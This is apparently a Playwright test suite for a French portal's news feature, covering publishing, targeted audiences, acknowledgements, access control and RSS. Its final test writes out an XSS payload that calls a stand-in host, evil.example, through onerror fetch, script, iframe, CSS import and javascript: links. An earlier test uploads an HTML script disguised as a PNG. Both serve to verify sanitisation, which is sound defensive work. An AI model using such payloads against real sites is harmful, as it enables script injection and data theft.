import { readFileSync } from 'node:fs';
import type { BrowserContext } from '@playwright/test';
import sharp from 'sharp';
import { startPortal, type Portal } from './support/portal.ts';
import { expectSound } from './support/sound.ts';
import { button, field, fillTicket, heading, link, m, menu, signIn } from './support/steps.ts';
import { expect, test as withPortal, type Page } from './support/test.ts';

/** A portal of its own: what is published here would be on everybody's home page. */
const test = withPortal.extend<object, { moving: Portal }>({
	moving: [
		// eslint-disable-next-line no-empty-pattern
		async ({}, use) => {
			const portal = await startPortal();
			await use(portal);
			await portal.stop();
		},
		{ scope: 'worker' }
	],
	baseURL: ({ moving }, use) => use(moving.origin)
});

const pixels = (width: number, height: number) =>
	sharp({ create: { width, height, channels: 3, background: '#2a6f97' } });
const photo = async (name = 'façade.jpg') => ({
	name,
	mimeType: 'image/jpeg',
	buffer: await pixels(1700, 900).jpeg().toBuffer()
});

const act = (page: Page, name: string) => button(page.getByRole('main'), name);
const tick = (page: Page, legend: string, name: string) =>
	page.getByRole('group', { name: legend, exact: true }).getByRole('checkbox', { name }).check();
const preview = (page: Page) => page.getByRole('region', { name: m.news_preview_title() });
const tabs = (page: Page, name: string) =>
	page.getByRole('navigation', { name: m.news_states() }).getByRole('link', { name });
const homeOf = (page: Page) => `/${new URL(page.url()).pathname.split('/').slice(1, 3).join('/')}`;

/** Fills in what every item has. */
async function write(page: Page, title: string, body: string): Promise<void> {
	await field(page, m.news_title()).fill(title);
	await field(page, m.news_body()).fill(body);
}

test('staff write an item with a picture for some, see it beforehand, publish it; who is meant reads and confirms it', async ({
	page,
	browserOf
}) => {
	test.setTimeout(240_000);
	const title = 'Un incident de sauvegarde, et ce que nous avons changé';
	await signIn(page, 'sam');

	await test.step('the lists of each state, full and empty', async () => {
		await page.goto('/staff/news');
		await expect(heading(page, m.news_staff_title())).toBeVisible();
		await expectSound(page);
		await tabs(page, m.news_state_scheduled()).click();
		await expect(page.getByText('Maintenance du portail')).toBeVisible();
		await expectSound(page);
		await tabs(page, m.news_state_ended()).click();
		await expect(page.getByText(m.news_none_ended())).toBeVisible();
		await expectSound(page);
		await link(page, m.news_new()).click();
		await expect(heading(page, m.news_new())).toBeVisible();
		await expectSound(page);
	});

	await test.step('what is wrong is told at its place, and what was typed stays', async () => {
		await write(page, title, '**Rien n’est perdu.** Voici les faits.\n\n- sauvegardes doublées');
		await page.getByLabel(m.files_choose_one()).setInputFiles([await photo()]);
		await expect(page.getByRole('list', { name: m.files_list() })).toContainText('façade.jpg');
		await field(page, m.news_from()).fill('2090-02-01T09:00');
		await field(page, m.news_until()).fill('2090-01-01T09:00');
		await act(page, m.news_publish()).click();
		await expect(field(page, m.news_until())).toHaveAccessibleDescription(new RegExp(m.news_dates_reversed()));
		await expect(field(page, m.news_alternative())).toHaveAccessibleDescription(
			new RegExp(m.news_alternative_missing())
		);
		await expect(field(page, m.news_title())).toHaveValue(title);
		await expectSound(page);
	});

	await test.step('the preview shows it as customers will read it, without leaving', async () => {
		await field(page, m.news_from()).fill('');
		await field(page, m.news_until()).fill('');
		await field(page, m.news_alternative()).fill('La façade bleue de notre centre.');
		await tick(page, m.news_roles(), m.news_role_accounting());
		await tick(page, m.news_roles(), m.news_role_administrator());
		await tick(page, m.news_products(), 'État civil et élections');
		await page.getByRole('checkbox', { name: m.news_acknowledge_ask() }).check();
		await act(page, m.news_preview()).click();
		const shown = preview(page);
		await expect(shown.getByRole('heading', { name: title })).toBeVisible();
		await expect(shown.getByRole('img', { name: 'La façade bleue de notre centre.' })).toBeVisible();
		await expect(shown.getByRole('listitem')).toHaveText('sauvegardes doublées');
		await expect(shown).toContainText(/Administrateurs et référents comptables des structures qui ont État civil/);
		await expect(shown).toContainText(m.news_reach_people({ count: 2 }));
		await expect(field(page, m.news_title())).toHaveValue(title);
		await expectSound(page);
	});

	await test.step('it is published', async () => {
		await act(page, m.news_publish()).click();
		await expect(page.getByText(m.news_published_told())).toBeVisible();
		await expect(page.getByText(m.news_reach_people({ count: 2 }))).toBeVisible();
		await expect(page.getByRole('figure').getByRole('img')).toHaveAttribute('srcset', /480w.*960w.*1600w/);
		await expectSound(page);
	});
	const item = new URL(page.url()).pathname;
	const id = item.split('/').at(-1)!;

	const adam = await browserOf();
	await test.step('the administrator is asked for it on the home page, reads it, and confirms', async () => {
		await signIn(adam, 'adam');
		const home = homeOf(adam);
		await expect(heading(adam, m.news_home_awaited({ count: 2 }))).toBeVisible();
		await expect(
			menu(adam)
				.getByRole('link', { name: new RegExp(`^${m.ui_nav_news_short()}.*2`) })
				.or(menu(adam).getByRole('link', { name: new RegExp(`${m.ui_nav_news()}.*2`) }))
				// On a phone the entry is behind « Plus », which says what awaits there.
				.or(menu(adam).getByRole('button', { name: new RegExp(`^${m.ui_more()}.*2`) }))
				.filter({ visible: true })
				.first()
		).toBeVisible();
		await expectSound(adam);
		await adam.goto(`${home}/news`);
		await expect(adam.getByRole('link', { name: new RegExp(title) })).toContainText(m.news_to_acknowledge());
		await expectSound(adam);
		await adam.getByRole('link', { name: new RegExp(title) }).click();
		await expect(heading(adam, title)).toBeVisible();
		const image = adam.getByRole('img', { name: 'La façade bleue de notre centre.' });
		await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
		await expectSound(adam);
		await button(adam, m.news_acknowledge_named()).click();
		await expect(adam.getByText(m.news_acknowledge_thanks())).toBeVisible();
		await expect(adam.getByText(m.news_acknowledged_at())).toBeVisible();
		await expect(button(adam, m.news_acknowledge_named())).toHaveCount(0);
		await expectSound(adam);
		await adam.goto(home);
		await expect(heading(adam, m.news_home_awaited({ count: 1 }))).toBeVisible();
	});

	await test.step('whom it is not meant for finds nothing, neither by list, address nor picture', async () => {
		const source = await adam
			.goto(`${homeOf(adam)}/news/${id}`)
			.then(() => adam.getByRole('article').getByRole('img').getAttribute('src'));
		for (const person of ['vera', 'otto'] as const) {
			const other = await browserOf();
			await signIn(other, person);
			const home = homeOf(other);
			await other.goto(`${home}/news`);
			await expect(heading(other, m.news_page_title())).toBeVisible();
			await expect(other.getByText(title)).toHaveCount(0);
			expect((await other.request.get(`${home}/news/${id}`)).status(), person).toBe(404);
			expect((await other.request.get(source!)).status(), person).toBe(404);
			await other.close();
		}
		expect((await page.request.get(`${homeOf(adam)}/news/${id}`)).status(), 'not a customer’s page').toBe(404);
	});

	await test.step('staff see who has confirmed and who has not, and take the list along', async () => {
		await page.goto(item);
		await link(page, m.news_readers()).click();
		await expect(heading(page, m.news_readers_title())).toBeVisible();
		await expect(page.getByText(m.news_readers_progress({ done: '1', all: '2' }))).toBeVisible();
		await expect(page.getByText('Théa Grandjean')).toBeVisible();
		await expect(page.getByText('Adam Ferry')).toHaveCount(0);
		await expectSound(page);
		await page.getByRole('link', { name: new RegExp(`^${m.news_reader_done()}`) }).click();
		await expect(page.getByText('Adam Ferry')).toBeVisible();
		await expectSound(page);
		const downloading = page.waitForEvent('download');
		await link(page, m.news_readers_export()).click();
		const csv = readFileSync((await (await downloading).path())!, 'utf8');
		expect(csv).toContain('Nom;Prénom;Adresse e-mail');
		expect(csv).toMatch(/Ferry;Adam;.*;oui;\d{4}/);
		expect(csv).toMatch(/Grandjean;Théa;.*;non;\r\n/);
	});

	await test.step('two who change it at once: the second is told, keeps what was typed, and decides', async () => {
		const mona = await browserOf();
		await signIn(mona, 'mona');
		await mona.goto(item);
		await page.goto(item);
		await field(mona, m.news_title()).fill(`${title} (Mona)`);
		await act(mona, m.news_save()).click();
		await expect(mona.getByText(m.news_saved())).toBeVisible();
		await field(page, m.news_body()).fill('Le texte de Sam.');
		await act(page, m.news_save()).click();
		await expect(page.getByText(m.news_changed_meanwhile({ name: 'Mona Vautrin' }))).toBeVisible();
		await expect(link(page, m.news_see_theirs())).toHaveCount(1);
		await expect(field(page, m.news_body())).toHaveValue('Le texte de Sam.');
		await expectSound(page);
		await act(page, m.news_save()).click();
		await expect(page.getByText(m.news_saved())).toBeVisible();
	});

	await test.step('more people only where that is intended', async () => {
		await page
			.getByRole('group', { name: m.news_products(), exact: true })
			.getByRole('checkbox', { name: 'État civil' })
			.uncheck();
		await act(page, m.news_save()).click();
		const intended = page.getByRole('checkbox', { name: m.news_widened() });
		await expect(intended).toHaveAccessibleDescription(new RegExp(m.news_widened_ask()));
		await expectSound(page);
		await intended.check();
		await act(page, m.news_save()).click();
		await expect(page.getByText(m.news_saved())).toBeVisible();
	});

	await test.step('it ends', async () => {
		await act(page, m.news_end()).click();
		await expect(page.getByText(m.news_ended_told())).toBeVisible();
		await expectSound(page);
		expect((await adam.request.get(`${homeOf(adam)}/news/${id}`)).status()).toBe(404);
	});
});

test('all of it goes without JavaScript: a picture, the preview, a date to come, a draft that is deleted', async ({
	browserOf
}) => {
	test.setTimeout(120_000);
	const page = await browserOf({ javaScriptEnabled: false });
	const title = `Sans script ${Date.now()}`;
	await signIn(page, 'mona');
	await page.goto('/staff/news/new');
	const file = page.locator('input[type=file]');
	await write(page, title, 'Un **texte**.');

	for (const [name, mimeType, buffer, told] of [
		['logo.svg', 'image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), m.files_svg()],
		['notes.txt', 'text/plain', Buffer.from('Bonjour'), m.files_no_picture()],
		['photo.png', 'image/png', Buffer.from('<!doctype html><script>alert(1)</script>'), m.files_disguised()],
		['immense.png', 'image/png', await pixels(10_000, 6000).png().toBuffer(), m.files_too_many_pixels()]
	] as const) {
		await file.setInputFiles([{ name, mimeType, buffer }]);
		await field(page, m.news_alternative()).fill('Une porte.');
		await act(page, m.news_save_draft()).click();
		await expect(page.locator('input[type=file]'), name).toHaveAccessibleDescription(
			new RegExp(told.replace(/[().?]/g, '\\$&'))
		);
		await expect(field(page, m.news_title())).toHaveValue(title);
	}

	await page.locator('input[type=file]').setInputFiles([await photo()]);
	await field(page, m.news_until()).fill('2090-12-24T18:30');
	await act(page, m.news_preview()).click();
	await expect(preview(page).getByRole('heading', { name: title })).toBeVisible();
	await expect(preview(page).getByRole('img', { name: 'Une porte.' })).toBeVisible();
	await expect(field(page, m.news_until())).toHaveValue('2090-12-24T18:30');
	await expect(page.getByRole('checkbox', { name: /façade\.jpg/ })).toBeChecked();

	await field(page, m.news_from()).fill('2090-12-01T08:00');
	await act(page, m.news_publish()).click();
	await expect(heading(page, title)).toBeVisible();
	await expect(page.getByText(m.news_scheduled_told())).toBeVisible();
	await expect(page.getByText(m.news_is_scheduled(), { exact: true })).toBeVisible();
	await expect(page.getByRole('figure').getByRole('img')).toBeVisible();
	await act(page, m.news_unschedule()).click();
	await expect(page.getByText(m.news_unscheduled_told())).toBeVisible();
	await expect(page.getByText(m.news_is_draft(), { exact: true })).toBeVisible();
	await act(page, m.news_discard()).click();
	await expect(heading(page, m.news_staff_title())).toBeVisible();
	await expect(page.getByText(title)).toHaveCount(0);

	const reader = await browserOf({ javaScriptEnabled: false });
	await signIn(reader, 'thea');
	await reader.goto('/');
	const asked = reader.getByRole('link', { name: /Vos données dans votre espace client/ });
	// In Sexey she is neither administrator nor DPO; in Maron she is both.
	for (const place of await reader.evaluate(() =>
		[...document.querySelectorAll<HTMLAnchorElement>('a[href^="/s/"]')].map(({ pathname }) => pathname)
	)) {
		if (!/^\/s\/[^/]+$/.test(place)) continue;
		await reader.goto(place);
		if (await asked.count()) break;
	}
	await asked.first().click();
	await button(reader, m.news_acknowledge_named()).click();
	await expect(reader.getByText(m.news_acknowledged_at())).toBeVisible();
	await expect(button(reader, m.news_acknowledge_named())).toHaveCount(0);
});

test('everybody reads the public news, page by page or by a program that reads along', async ({ page, browserOf }) => {
	test.setTimeout(120_000);
	const writer = await browserOf();
	await signIn(writer, 'mona');
	await writer.goto('/staff/news/new');
	const title = `Publique & <lue> ${Date.now()}`;
	await write(writer, title, 'Pour tous.');
	await writer.getByRole('radio', { name: new RegExp(`^${m.news_audience_public()}`) }).check();
	await act(writer, m.news_publish()).click();
	await expect(writer.getByText(m.news_for_everybody())).toBeVisible();

	await page.goto('/login');
	await expect(page.getByText(title)).toBeVisible();
	await expect(page.locator('link[rel=alternate][type="application/rss+xml"]')).toHaveAttribute(
		'href',
		'/news/rss.xml'
	);
	await link(page, m.news_all()).click();
	await expect(page).toHaveURL(/\/news$/);
	await expect(page.getByRole('link', { name: /Notre certification Qualiopi est renouvelée/ })).toBeVisible();
	await expect(page.getByText('Webinaire')).toHaveCount(0);
	await expectSound(page);
	await page.getByRole('link', { name: new RegExp('Publique') }).click();
	await expect(heading(page, title)).toBeVisible();
	await expectSound(page);

	const answer = await page.request.get('/news/rss.xml');
	expect(answer.headers()['content-type']).toBe('text/xml; charset=utf-8');
	expect(answer.headers()['cache-control']).toBe('public, max-age=300');
	const read = await page.evaluate(
		(xml) => {
			const feed = new DOMParser().parseFromString(xml, 'text/xml');
			const text = (selector: string) => [...feed.querySelectorAll(selector)].map((element) => element.textContent);
			return {
				wrong: feed.querySelector('parsererror') !== null,
				version: feed.documentElement.getAttribute('version'),
				titles: text('item > title'),
				links: text('item > link'),
				dates: text('item > pubDate').map((date) => Number.isNaN(Date.parse(date!)))
			};
		},
		await answer.text()
	);
	expect(read).toMatchObject({ wrong: false, version: '2.0' });
	expect(read.titles).toContain(title);
	expect(read.titles).not.toContain('La version 2026.4 est arrivée');
	expect(new Set(read.dates)).toEqual(new Set([false]));
	for (const address of read.links) expect((await page.request.get(address!)).status()).toBe(200);
});

test('reading an item or a ticket full of things from elsewhere loads nothing but from the portal', async ({
	browserOf,
	moving
}) => {
	test.setTimeout(120_000);
	const hostile = `Bonjour ![pixel](https://evil.example/pixel.png)

<img src="https://evil.example/html.png" onerror="fetch('https://evil.example/ran')">

<script src="https://evil.example/x.js"></script><iframe src="https://evil.example/"></iframe>

<style>@import url(https://evil.example/x.css);</style> [lien](javascript:fetch('https://evil.example/clicked'))`;
	const writer = await browserOf();
	await signIn(writer, 'mona');
	const titles: Record<'public' | 'members', string> = { public: 'Piégée pour tous', members: 'Piégée dedans' };
	for (const audience of ['public', 'members'] as const) {
		await writer.goto('/staff/news/new');
		await write(writer, titles[audience], hostile);
		const label = audience === 'public' ? m.news_audience_public() : m.news_audience_members();
		await writer.getByRole('radio', { name: new RegExp(`^${label}`) }).check();
		await act(writer, m.news_preview()).click();
		await expect(preview(writer)).toBeVisible();
		await act(writer, m.news_publish()).click();
		await expect(writer.getByText(m.news_published_told())).toBeVisible();
	}

	const reader = await browserOf();
	const asked = recorded(reader.context());
	await reader.goto('/login');
	await expect(reader.getByText(titles.public)).toBeVisible();
	await reader.getByRole('link', { name: new RegExp(titles.public) }).click();
	await expect(heading(reader, titles.public)).toBeVisible();
	await expect(reader.getByRole('article')).toContainText('<img src=');
	await signIn(reader, 'vera');
	const home = homeOf(reader);
	await reader.goto(`${home}/news`);
	await reader.getByRole('link', { name: new RegExp(titles.members) }).click();
	await expect(heading(reader, titles.members)).toBeVisible();
	await reader.getByRole('article').getByText('lien').click();
	await expect(reader).toHaveURL(/\/news\//);

	await reader.goto(`${home}/tickets/new`);
	await fillTicket(reader, { subject: 'Piégé', body: hostile });
	await button(reader, m.tickets_open_action()).click();
	await expect(heading(reader, m.tickets_opened_title())).toBeVisible();
	await expect(reader.getByText('<img src=').first()).toBeVisible();
	await reader.reload();
	await reader.waitForLoadState('load');
	expect(asked.length).toBeGreaterThan(20);
	expect(asked.filter((address) => !address.startsWith(moving.origin) && !/^(data|blob):/.test(address))).toEqual([]);
});

/** Every address a browser asks for from now on. */
function recorded(context: BrowserContext): string[] {
	const asked: string[] = [];
	context.on('request', (request) => asked.push(request.url()));
	return asked;
}
